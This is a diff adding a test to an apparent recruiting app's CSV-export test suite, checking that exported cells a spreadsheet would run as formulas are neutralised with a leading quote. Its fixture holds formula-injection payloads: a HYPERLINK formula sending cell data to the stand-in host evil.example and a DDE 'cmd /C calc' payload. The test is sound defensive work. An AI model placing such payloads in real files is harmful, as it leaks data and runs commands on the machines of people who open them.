@@ -77,6 +77,32 @@ describe('GET /api/local/export.csv', () => {
     expect(byJob.rows).toHaveLength(Math.floor(COUNT / 3) + 1);
   });
 
+  // After the tests that count rows: it adds a candidate they do not expect.
+  it('guards cells a spreadsheet app would run as formulas; the API\'s own CSV keeps them exactly', async () => {
+    const hostile = {
+      id: candidateId(COUNT + 1),
+      full_name: '=HYPERLINK("http://evil.example/?"&A1,"Open CV")',
+      current_company: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      phone_number: '+91 98765 43210',
+      location: '-',
+    };
+    const at = new Date(Date.UTC(2027, 0, 1)).toISOString();
+    insertCandidate(api.database.db, makeCandidateRecord({ ...hostile, talent_pool_status: 'revealed', created_at: at, updated_at: at }));
+    const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
+
+    const { rows } = await exportCsv('?search=evil.example');
+    expect(rows).toHaveLength(2);
+    expect(rows[1]![column('full_name')]).toBe(`'${hostile.full_name}`);
+    expect(rows[1]![column('current_company')]).toBe(`'${hostile.current_company}`);
+    expect(rows[1]![column('phone_number')]).toBe(hostile.phone_number);
+    expect(rows[1]![column('location')]).toBe('-');
+
+    const apiCsv = await api.call('GET', '/api/v1/candidates?format=csv&search=evil.example');
+    const apiRows = Papa.parse<string[]>(apiCsv.text, { skipEmptyLines: true }).data;
+    expect(apiRows[1]![column('full_name')]).toBe(hostile.full_name);
+    expect(apiRows[1]![column('current_company')]).toBe(hostile.current_company);
+  });
+
   it('refuses a bad filter in the envelope, and answers 401 without the token', async () => {
     const bad = await api.call('GET', '/api/local/export.csv?job_id=nope');
     expect(bad.status).toBe(400);
